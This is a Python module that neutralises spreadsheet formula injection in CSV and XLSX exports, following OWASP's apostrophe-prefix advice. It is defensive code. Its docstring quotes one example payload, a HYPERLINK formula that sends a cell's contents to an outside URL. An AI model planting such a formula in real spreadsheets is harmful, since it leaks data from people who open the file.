"""Cells that a spreadsheet will never run: the one guard every CSV and XLSX writer uses.

Case references, council names and finding text come from people's files.  Excel,
LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return as a formula, so a case reference such as
``=HYPERLINK("http://…?leak="&A2)`` would run when an inspector opens the sample.
OWASP's advice for CSV injection is to prefix such a cell with an apostrophe, which
every spreadsheet shows as text; XLSX cells are also typed as text so that openpyxl
never stores them as formulas.  Values the writer itself made (dates, counts) are left
as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet will show it, never run it: an apostrophe before a
    formula-like start, otherwise unchanged."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_value(value: Any) -> str:
    """A value as a safe CSV field: dates as ISO, numbers as digits, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, bool | int | float):
        return str(value)
    return neutralise(str(value))


def xlsx_value(value: Any) -> Any:
    """A value ready for an openpyxl cell: dates and numbers kept, text neutralised.

    Pair with :func:`set_cell` (or :func:`force_text`) so that openpyxl types text
    cells as strings even when they begin like a formula.
    """
    if value is None or isinstance(value, date | bool | int | float):
        return value
    return neutralise(str(value))


def force_text(cell: Any) -> None:
    """Type an openpyxl cell holding text as a string, whatever it begins with."""
    if isinstance(cell.value, str):
        cell.data_type = "s"


def set_cell(cell: Any, value: Any) -> None:
    """Write ``value`` into an openpyxl cell safely (see :func:`xlsx_value`)."""
    cell.value = xlsx_value(value)
    force_text(cell)


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet with every cell written by :func:`set_cell`."""
    sheet.append([xlsx_value(v) for v in values])
    for cell in sheet[sheet.max_row]:
        force_text(cell)


class SafeCsvWriter:
    """``csv.writer`` whose every field goes through :func:`csv_value` first.

    Every CSV inspectkit writes is written through this class, so no writer can
    forget the guard.
    """

    def __init__(self, handle: Any, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
